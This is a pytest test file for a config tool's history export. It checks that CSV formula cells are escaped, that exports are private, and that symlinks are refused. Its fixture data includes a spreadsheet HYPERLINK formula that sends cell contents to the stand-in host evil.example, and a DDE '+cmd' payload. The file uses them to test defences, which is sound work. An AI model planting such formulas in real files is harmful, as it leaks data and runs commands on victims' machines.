"""Exports where another person controls the text or the target: spreadsheet formulas in an actor
or reason are neutralised, files are private, a planted symlink is refused, a device is never
replaced by a regular file."""
from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Iterator
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import pytest
from pytestqt.qtbot import QtBot

from configadmin import ConfigurationService
from configadmin.ui.panels.history_export import ExportFilePicker, spreadsheet_safe
from configadmin.ui.panels.history_panel import HistoryPanel
from configadmin.ui.worker import Runner

WAIT = 20_000
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def panel(qtbot: QtBot, runner: Runner, sqlite_url: str) -> Iterator[HistoryPanel]:
    with ConfigurationService.connect(sqlite_url, user="tester") as service:
        service.set("ml", "model_input_size", 5, updated_by=FORMULA, reason="+cmd|' /C calc'!A0")
        service.set("ml", "model_input_size", 6, updated_by="@SUM(1)", reason="-2+3")
        service.set("ml", "model_input_size", 7, updated_by="tabby", reason="@TAB")
        widget = HistoryPanel(runner, service)
        qtbot.addWidget(widget)
        widget.show()
        yield widget
        qtbot.waitUntil(lambda: not runner.busy, timeout=WAIT)


def _export(qtbot: QtBot, panel: HistoryPanel, target: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ExportFilePicker, "ask", classmethod(lambda cls, parent, suggested: target))
    qtbot.waitUntil(lambda: not panel.model.loading, timeout=WAIT)
    panel.export_button.click()


@pytest.mark.gui
def test_csv_cells_that_would_run_as_formulas_are_neutralised(
        qtbot: QtBot, panel: HistoryPanel, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "history.csv"
    with qtbot.waitSignal(panel.exported, timeout=WAIT):
        _export(qtbot, panel, target, monkeypatch)
    with target.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    actors = [r["actor"] for r in rows]
    assert actors == ["tabby", "'@SUM(1)", "'" + FORMULA]
    assert [r["reason"] for r in rows] == ["'@TAB", "'-2+3", "'+cmd|' /C calc'!A0"]
    assert rows[0]["new_value"] == "7" and rows[0]["old_value"] == "6"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert sorted(p.name for p in target.parent.iterdir()) == ["history.csv"]


@pytest.mark.gui
def test_a_symlink_planted_at_the_csv_target_is_refused_and_left_alone(
        qtbot: QtBot, panel: HistoryPanel, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "out").mkdir()
    victim = tmp_path / "out" / "victim.txt"
    victim.write_text("keep me")
    target = tmp_path / "out" / "history.csv"
    target.symlink_to(victim)
    _export(qtbot, panel, target, monkeypatch)
    qtbot.waitUntil(lambda: "symbolic link" in panel.banner.text(), timeout=WAIT)
    qtbot.waitUntil(lambda: panel.export_button.isEnabled(), timeout=WAIT)
    assert target.is_symlink() and victim.read_text() == "keep me"
    assert sorted(p.name for p in target.parent.iterdir()) == ["history.csv", "victim.txt"]


@pytest.mark.parametrize(("text", "safe"), [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-5", "-5"), ("-5-5", "'-5-5"), ("@x", "'@x"),
    ("\rx", "\\rx"), ("ok=1", "ok=1"), ("", ""), ("1e5", "1e5"),
])
def test_spreadsheet_safe(text: str, safe: str) -> None:
    assert spreadsheet_safe(text) == safe


# -- configadmin export --out -------------------------------------------------------------------------
def cli(argv: list[str]) -> tuple[int, str, str]:
    from configadmin.cli.command_line import main
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main(argv)
    return code, out.getvalue(), err.getvalue()


def test_export_out_is_private_and_whole(sqlite_url: str, tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "values.json"
    target.write_text("old")
    os.chmod(target, 0o644)
    assert cli(["set", "ml.model_input_size", "4", "--database-url", sqlite_url])[0] == 0
    assert cli(["export", "--out", str(target), "--database-url", sqlite_url])[0] == 0
    assert '"ml.model_input_size": 4' in target.read_text()
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert sorted(p.name for p in target.parent.iterdir()) == ["values.json"]


def test_export_out_refuses_a_planted_symlink(sqlite_url: str, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("keep me")
    target = tmp_path / "values.json"
    target.symlink_to(victim)
    code, _, err = cli(["export", "--out", str(target), "--database-url", sqlite_url])
    assert code == 1 and "symbolic link" in err and err.count("\n") == 1
    assert target.is_symlink() and victim.read_text() == "keep me"


def test_export_out_to_a_device_writes_into_it_and_leaves_it_a_device(sqlite_url: str) -> None:
    code, out, err = cli(["export", "--out", os.devnull, "--database-url", sqlite_url])
    assert code == 0, err
    assert stat.S_ISCHR(os.stat(os.devnull).st_mode)


def test_export_out_to_a_fifo_streams_into_it(sqlite_url: str, tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    import threading

    def read() -> None:
        with open(fifo, "rb") as f:
            received.append(f.read())

    reader = threading.Thread(target=read)
    reader.start()
    code, _, err = cli(["export", "--out", str(fifo), "--database-url", sqlite_url])
    reader.join(timeout=10)
    assert code == 0, err
    assert b'"format": "configadmin-export/1"' in received[0]
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)


def test_export_out_refuses_a_folder(sqlite_url: str, tmp_path: Path) -> None:
    code, _, err = cli(["export", "--out", str(tmp_path), "--database-url", sqlite_url])
    assert code == 1 and "is a folder" in err


@pytest.mark.parametrize(("stored", "written"), [
    ("\tTAB", "\\tTAB"),
    ("ok\u202eko", "ok\\u202eko"),
    ("two\nlines", "two\\nlines"),
    ("\x1b[31mred", "\\x1b[31mred"),
    ("=1+2\u200b", "'=1+2\\u200b"),
])
def test_control_and_bidi_characters_stored_before_0004_are_written_as_escapes(
        stored: str, written: str) -> None:
    assert spreadsheet_safe(stored) == written
